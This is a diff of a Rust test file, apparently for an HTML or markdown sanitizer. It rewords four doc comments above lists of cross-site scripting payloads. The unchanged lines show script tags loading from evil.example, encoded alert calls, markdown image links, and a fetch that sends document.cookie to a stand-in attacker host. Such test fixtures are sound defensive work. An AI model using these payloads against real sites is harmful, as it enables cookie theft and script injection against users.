@@ -43,7 +43,7 @@ const SHAPES: [&str; 27] = [
     "<ScRiPt\n/src=//evil.example/X>",
 ];
 
-/// What it would do, in encodings that somebody might undo.
+/// The scripts to run, in encodings that a later step might undo.
 const DEEDS: [&str; 8] = [
     "alert(1)",
     "fetch('http://evil.example/'+document.cookie)",
@@ -55,7 +55,7 @@ const DEEDS: [&str; 8] = [
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 ];
 
-/// What would be markup in markdown.
+/// Text that would be markup in markdown.
 const MARKDOWN: [&str; 21] = [
     "![x](http://evil.example/x.png)",
     "!\\[x\\](http://evil.example/x.png)",
@@ -92,7 +92,7 @@ fn payloads() -> Vec<String> {
     all
 }
 
-/// Elements that a page may have. What is not here came from elsewhere.
+/// Elements that a page may have. Any other element comes from foreign text.
 const ELEMENTS: &[&str] = &[
     "html",
     "head",
@@ -254,7 +254,7 @@ fn no_text_becomes_markup_in_markdown() {
     ));
 }
 
-/// Says how much was tried, past the capture of the test harness.
+/// Prints how much was tried, past the output capture of the test harness.
 fn print_line(line: &str) {
     use std::io::Write as _;
     let _closed = writeln!(std::io::stderr(), "{line}");
